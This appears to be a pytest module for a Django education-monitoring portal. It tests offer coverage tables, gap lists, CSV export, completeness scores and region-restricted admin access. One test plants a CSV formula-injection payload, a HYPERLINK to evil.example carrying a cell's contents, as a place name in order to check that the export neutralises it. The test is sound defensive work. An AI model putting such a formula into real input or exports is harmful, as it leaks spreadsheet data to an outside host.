"""Bildungsmonitoring figures, checked against a hand-counted fixture."""

import datetime
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from actors.models import Actor
from offers.completeness import completeness
from offers.models import EditorialStatus, EventStatus, Offer
from portal import monitoring
from regions.models import StaffMembership
from tests.admin.conftest import make_user
from tests.factories import make_actor, make_event, make_municipality, make_offer, make_region

pytestmark = pytest.mark.django_db

STAGES = [
    "Frühe Kindheit",
    "Grundschulzeit",
    "Sekundarstufe",
    "Übergang Schule–Beruf",
    "Ausbildung und Studium",
    "Beruf und Weiterbildung",
    "Familie und Eltern",
    "Ältere Menschen",
]
LONG_AGO = datetime.date(2020, 1, 15)


@pytest.fixture
def landscape():
    """Region "Geest": Altstadt has 2 offers for Frühe Kindheit and 1 for Grundschulzeit,
    Neudorf 1 for Grundschulzeit, one online offer for Beruf und Weiterbildung. Not counted:
    a draft, an expired offer, and the offer of another region."""
    region = make_region(name="Geest", slug="geest")
    altstadt = make_municipality(region, name="Altstadt")
    neudorf = make_municipality(region, name="Neudorf")
    vhs = make_actor(region, name="VHS Geest", municipality=altstadt)
    complete = {
        "description": "Ausführlich beschrieben, länger als der Titel",
        "street": "Markt 1",
        "postcode": "21000",
        "city": "Altstadt",
        "contact_email": "vhs@example.org",
        "registration": "Anruf genügt",
        "age_min": 3,
        "is_free": True,
        "schedule": "montags",
        "is_accessible": True,
    }
    offers = {
        "o1": make_offer(
            provider=vhs,
            municipality=altstadt,
            life_stages=["fruehe-kindheit", "grundschulzeit"],
            **complete,
        ),
        "o2": make_offer(
            provider=vhs,
            municipality=altstadt,
            life_stages=["fruehe-kindheit"],
            last_reviewed=LONG_AGO,
        ),
        "o3": make_offer(provider=vhs, municipality=neudorf, life_stages=["grundschulzeit"]),
        "draft": make_offer(
            provider=vhs,
            municipality=neudorf,
            life_stages=["fruehe-kindheit"],
            status=EditorialStatus.DRAFT,
        ),
        "online": make_offer(
            provider=vhs, format=Offer.Format.ONLINE, life_stages=["beruf-und-weiterbildung"]
        ),
        "expired": make_offer(
            provider=vhs,
            municipality=altstadt,
            life_stages=["fruehe-kindheit"],
            valid_until=timezone.localdate() - datetime.timedelta(days=1),
        ),
    }
    Actor.objects.filter(pk=vhs.pk).update(last_reviewed=LONG_AGO)
    other = make_region(name="Marsch", slug="marsch")
    make_offer(region=other, municipality=make_municipality(other, name="Deichdorf"))
    waiting = make_event(region=region, status=EventStatus.REVIEW, title="Praktikumsbörse")
    make_event(region=other, status=EventStatus.REVIEW)
    make_event(region=region, status=EventStatus.PUBLISHED)
    return {
        "region": region,
        "other": other,
        "altstadt": altstadt,
        "neudorf": neudorf,
        "offers": offers,
        "vhs": vhs,
        "waiting": waiting,
    }


def test_coverage_counts_published_current_offers(landscape):
    table = monitoring.coverage([landscape["region"].pk])
    assert [s.name for s in table.stages] == STAGES
    rows = {
        (row.municipality.name if row.municipality else None): [n for n, _level in row.cells]
        for row in table.rows
    }
    assert rows == {
        "Altstadt": [2, 1, 0, 0, 0, 0, 0, 0],
        "Neudorf": [0, 1, 0, 0, 0, 0, 0, 0],
        None: [0, 0, 0, 0, 0, 1, 0, 0],
    }
    assert [row.total for row in table.rows] == [2, 1, 1]
    assert table.stage_totals == [2, 2, 0, 0, 0, 1, 0, 0]
    assert table.maximum == 2
    assert [level for _n, level in table.rows[0].cells[:3]] == [4, 2, 0]


def test_gaps_are_municipality_and_stage_without_offer(landscape):
    table = monitoring.coverage([landscape["region"].pk])
    groups = monitoring.gaps_by_municipality(table)
    assert [(m.name, [s.name for s in stages]) for m, stages in groups] == [
        ("Altstadt", STAGES[2:]),
        ("Neudorf", [STAGES[0], *STAGES[2:]]),
    ]
    assert len(table.gaps) == 13


def test_coverage_csv(landscape):
    table = monitoring.coverage([landscape["region"].pk])
    lines = monitoring.coverage_csv(table).splitlines()
    assert lines == [
        "Region;Stadt / Gemeinde;" + ";".join(STAGES),
        "Geest;Altstadt;2;1;0;0;0;0;0;0",
        "Geest;Neudorf;0;1;0;0;0;0;0;0",
        ";ohne Ort (z. B. online);0;0;0;0;0;1;0;0",
    ]


def test_coverage_csv_neutralises_formulae_in_names(landscape):
    """Item 5: region and place names are staff input; a spreadsheet must not run them."""
    town = landscape["region"].municipalities.get(name="Altstadt")
    town.name = '=HYPERLINK("https://evil.example/?x="&A1,"Klick")'
    town.save(update_fields=["name"])
    table = monitoring.coverage([landscape["region"].pk])
    lines = monitoring.coverage_csv(table).splitlines()
    assert (
        lines[1]
        == 'Geest;"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Klick"")";2;1;0;0;0;0;0;0'
    )


def test_stale_entries_and_moderation(landscape):
    ids = [landscape["region"].pk]
    counts = {model._meta.model_name: n for model, n in monitoring.stale_counts(ids)}
    assert counts == {
        "offer": 1,
        "actor": 1,
        "workinggroup": 0,
        "document": 0,
        "fundingprogramme": 0,
        "focusarea": 0,
    }
    assert monitoring.stale_entries(Offer, ids) == [landscape["offers"]["o2"]]
    assert list(monitoring.awaiting_moderation(ids)) == [landscape["waiting"]]


def test_completeness_scores(landscape):
    scores = monitoring.offer_completeness([landscape["region"].pk])
    by_offer = {c.obj.pk: (c.score, c.missing) for c in scores}
    # offers.completeness: 11 criteria; a bare offer in a town has the town, stages, topics.
    assert by_offer[landscape["offers"]["o1"].pk] == (100, [])
    assert by_offer[landscape["offers"]["o2"].pk] == (
        27,
        [
            "Beschreibung",
            "Ort oder online",
            "Kosten oder „kostenlos“",
            "Zeiten",
            "Anmeldung",
            "Kontakt",
            "Barrierefreiheit",
            "Alter",
        ],
    )
    # The online offer has its place ("online"); a town is not asked of it: 3 of 10.
    assert by_offer[landscape["offers"]["online"].pk] == (
        30,
        [
            "Beschreibung",
            "Kosten oder „kostenlos“",
            "Zeiten",
            "Anmeldung",
            "Kontakt",
            "Barrierefreiheit",
            "Alter",
        ],
    )
    # The same numbers as offers.completeness gives one offer loaded on its own.
    assert by_offer == {
        offer.pk: (c.score, c.missing)
        for offer in Offer.objects.filter(pk__in=by_offer)
        for c in [completeness(offer)]
    }
    assert scores[-1].obj == landscape["offers"]["o1"]
    assert len(scores) == 6  # the archived would be left out; none here


def test_monitoring_page_for_staff_shows_only_their_region(client, landscape):
    editor = make_user("red-geest", region=landscape["region"], role=StaffMembership.Role.EDITOR)
    client.force_login(editor)
    response = client.get(reverse("admin:monitoring"))
    assert response.status_code == 200
    assert response.context["chosen"] == [landscape["region"]]
    assert response.context["offer_total"] == 4
    assert [e.title for e in response.context["moderation"]] == ["Praktikumsbörse"]
    page = response.content.decode()
    assert 'class="heat heat-4">2</td>' in page
    assert "<svg" in page
    # SVG coordinates are plain integers (a German "15,4" would be two coordinates).
    coordinates = re.findall(
        r' (?:x|y|width|height)="([^"]*)"',
        page.split('class="monitoring-chart"')[1].split("</svg>")[0],
    )
    assert coordinates
    assert all(value.isdigit() for value in coordinates)
    assert "style=" not in page.split('id="content-main"')[1]
    response = client.get(reverse("admin:monitoring"), {"region": "marsch"})
    assert response.context["chosen"] == [landscape["region"]]

    response = client.get(reverse("admin:monitoring"), {"format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="angebote-geest.csv"'
    assert response.content.decode().splitlines()[1] == "Geest;Altstadt;2;1;0;0;0;0;0;0"


def test_monitoring_page_for_superuser_chooses_a_region(client, landscape):
    client.force_login(make_user("root", is_superuser=True))
    response = client.get(reverse("admin:monitoring"))
    assert response.context["chosen"] == [landscape["region"], landscape["other"]]
    assert response.context["offer_total"] == 5
    response = client.get(reverse("admin:monitoring"), {"region": "marsch"})
    assert response.context["chosen"] == [landscape["other"]]
    assert response.context["offer_total"] == 1


def test_monitoring_page_refused_without_region(client, db):
    client.force_login(make_user("ohne"))
    assert client.get(reverse("admin:monitoring")).status_code == 403
    client.logout()
    assert client.get(reverse("admin:monitoring")).status_code == 302
